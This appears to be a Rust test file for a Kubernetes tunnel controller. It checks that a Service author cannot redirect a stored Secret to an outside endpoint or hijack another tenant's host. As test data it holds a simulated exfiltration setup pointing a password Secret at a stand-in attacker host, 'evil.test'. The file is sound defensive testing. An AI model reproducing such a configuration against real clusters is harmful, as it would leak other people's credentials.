//! What the author of a Service or Tunnel must not get: other people's Secrets, hosts and money.

use std::collections::BTreeSet;
use std::sync::{Arc, Mutex};

use super::*;

/// A running controller whose requests to other places than the administrator's are noted.
async fn watched_world() -> (World, Arc<Mutex<BTreeSet<String>>>) {
    let mut world = world("digitalocean", DIGITALOCEAN, Machines::default()).await;
    let asked = Arc::new(Mutex::new(BTreeSet::new()));
    let (cloud, hosts) = (world.cloud.clone(), Arc::clone(&asked));
    let through = Http::through(move |request: Request<Bytes>| {
        hosts.lock().unwrap().insert(request.uri().host().unwrap_or_default().to_owned());
        cloud.send(request)
    });
    let settings = Settings { http: through, ..Settings::default() };
    world.env.run(parts(2, &settings));
    (world, asked)
}

#[tokio::test(start_paused = true)]
async fn a_service_sends_no_secret_of_its_choice_anywhere() {
    let (world, asked) = watched_world().await;
    world
        .env
        .apply(
            "{apiVersion: v1, kind: Secret, metadata: {name: database, namespace: default}, \
             stringData: {password: hunter2}}\n---\n\
             {apiVersion: v1, kind: ConfigMap, metadata: {name: leasehold-tunnel, namespace: default}, \
             data: {provider: digitalocean, endpoint: 'https://evil.test/v2', tokenSecret: database, \
             tokenSecretKey: password}}",
        )
        .await;
    world.env.apply(controllers::get("tunnel").unwrap().example).await;
    world.served().await;
    for (annotations, message) in [
        (
            json!({
                "leasehold.dev/tunnel-endpoint": "https://evil.test/v2",
                "leasehold.dev/tunnel-token-secret": "database",
                "leasehold.dev/tunnel-token-secret-key": "password",
            }),
            "endpoint",
        ),
        (json!({"leasehold.dev/tunnel-endpoint": null}), "tokenSecretRef"),
    ] {
        let annotated = json!({"metadata": {"annotations": annotations}});
        // A new Tunnel: one whose host exists is still looked after where that is.
        world.tunnels().delete(NAME, &DeleteParams::default()).await.unwrap();
        merge(&world.services(), SERVICE, annotated).await;
        world
            .env
            .until_object(&world.tunnels(), NAME, |tunnel| {
                let conditions = tunnel.status.iter().flat_map(|status| &status.conditions);
                conditions.into_iter().any(|found| {
                    found.reason == "NotPermitted" && found.message.starts_with(message)
                })
            })
            .await;
    }
    assert_eq!(*asked.lock().unwrap(), BTreeSet::from(["cloud.test".to_owned()]));
}

#[tokio::test(start_paused = true)]
async fn a_host_that_is_not_the_tunnels_own_outlives_it() {
    let world = World::running().await;
    world.example().await;
    let [stranger] = world.hosts()[..] else { panic!("one host") };
    let example = controllers::get("tunnel").unwrap().example;
    world.env.apply(&example.replace("nginx-1", "thief")).await;
    let thief = "thief-tunnel";
    let tunnels = world.tunnels();
    let tunnel = world.env.until_object(&tunnels, thief, |tunnel| {
        tunnel.status.as_ref().is_some_and(|status| status.host_status == Some(HostStatus::Active))
    });
    let own = tunnel.await.status.and_then(|status| status.host_id).expect("its host");
    let claimed = json!({"status": {"hostId": stranger.to_string()}});
    let claim = Patch::Merge(claimed);
    tunnels.patch_status(thief, &PatchParams::default(), &claim).await.unwrap();
    world.services().delete("thief", &DeleteParams::default()).await.unwrap();
    world.env.until_gone(&tunnels, thief).await;
    assert_ne!(own, stranger.to_string());
    assert_eq!(world.hosts(), [stranger]);
}
